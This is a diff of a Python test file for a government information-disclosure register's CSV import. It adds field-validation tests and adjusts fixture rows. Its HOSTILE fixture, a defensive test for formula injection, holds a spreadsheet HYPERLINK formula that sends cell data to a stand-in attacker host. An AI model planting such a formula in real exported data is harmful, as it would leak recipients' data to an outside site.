@@ -27,14 +27,14 @@ pytestmark = [
 ]
 
 CSV = """收到日期,申请渠道,申请人类型,申请人,证件类型,证件号码,联系电话,申请内容,办理结果,答复日期,送达日期,送达方式
-2025-03-03,信函（签收）,自然人,甲,护照,E1,138,文件一,予以公开,2025-03-20,2025-03-21,邮政企业邮寄送达
-2025年3月4日,当面提交,商业企业,乙公司,统一社会信用代码,91350100M000100Y43,139,文件二,,,,
-2025-03-05,飞鸽传书,自然人,丙,居民身份证,110105194912310021,137,文件三,,,,
-2025-13-01,网上申请,自然人,丁,护照,E4,136,文件四,,,,
-2025-03-06,网上申请,自然人,戊,护照,E5,135,文件五,部分批准,2025-03-10,,
+2025-03-03,信函（签收）,自然人,甲,护照,E1,13800000138,文件一,予以公开,2025-03-20,2025-03-21,邮政企业邮寄送达
+2025年3月4日,当面提交,商业企业,乙公司,统一社会信用代码,91350100M000100Y43,13900000139,文件二,,,,
+2025-03-05,飞鸽传书,自然人,丙,居民身份证,110105194912310021,13700000137,文件三,,,,
+2025-13-01,网上申请,自然人,丁,护照,E4,13600000136,文件四,,,,
+2025-03-06,网上申请,自然人,戊,护照,E5,13500000135,文件五,部分批准,2025-03-10,,
 2025-03-07,网上申请,自然人,己,护照,E6,,文件六,予以公开,2025-03-01,,
-2025-03-03,信函（签收）,自然人,甲,护照,E1,138,文件一,,,,
-2027-01-01,网上申请,自然人,庚,护照,E7,134,文件七,,,,
+2025-03-03,信函（签收）,自然人,甲,护照,E1,13800000138,文件一,,,,
+2027-01-01,网上申请,自然人,庚,护照,E7,13400000134,文件七,,,,
 """
 
 
@@ -55,6 +55,27 @@ def test_dry_run_lists_every_rejected_row_and_why() -> None:
     assert "与本文件中前面的一行重复" in reasons[8]
     assert "不能晚于今天" in reasons[9]
     assert Application.objects.count() == 0  # a dry run writes no case
+
+
+def test_the_register_has_the_limits_of_the_application_forms() -> None:
+    """A register row is refused for what the forms refuse (core.contact), with the same words."""
+    heading = "收到日期,申请渠道,申请人类型,申请人,证件类型,证件号码,联系电话,申请内容"
+    lines = [
+        "2025-03-03,网上申请,自然人,甲,护照,E1,abc,文件一",
+        "2025-03-03,网上申请,自然人,乙,护照,E2,138,文件二",
+        '2025-03-03,网上申请,自然人,丙,护照,E3,"13800000000，0379-1234567",文件三',
+        f"2025-03-03,网上申请,自然人,{'丁' * 101},护照,E4,010-12345678-123,文件四",
+        f"2025-03-03,网上申请,自然人,戊,护照,E5,0571-88888888,{'某' * 10_001}",
+        "2025-03-03,网上申请,自然人,己,护照,E6,+86 138 0000 0000,文件六",
+    ]
+    batch = _batch(factories.agency(), "\n".join([heading, *lines]).encode())
+    rows = register.dry_run(batch, TODAY)
+    assert [r.number for r in rows if not r.errors] == [7]
+    reasons = {r["row"]: " ".join(r["errors"]) for r in batch.rejected}
+    assert "联系电话格式不正确" in reasons[2] and "联系电话格式不正确" in reasons[3]
+    assert "请只填写一个电话号码" in reasons[4]
+    assert "姓名或名称最多100个字（现有101个字）" in reasons[5]
+    assert "所需信息的描述最多10000个字（现有10001个字）" in reasons[6]
 
 
 def test_import_then_reimport_is_refused_as_duplicates() -> None:
@@ -153,7 +174,7 @@ def test_import_pages(client: Client) -> None:
 # An application filed anonymously online whose fields are spreadsheet formulas (issue 14).
 HOSTILE = {
     "申请人": '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
-    "联系电话": "=1+1",
+    "联系电话": "+8613800000000",  # a valid phone, and formula-like (it starts with +)
     "申请内容": "@SUM(1+1) 以及 -2+3 号文件",
 }
 
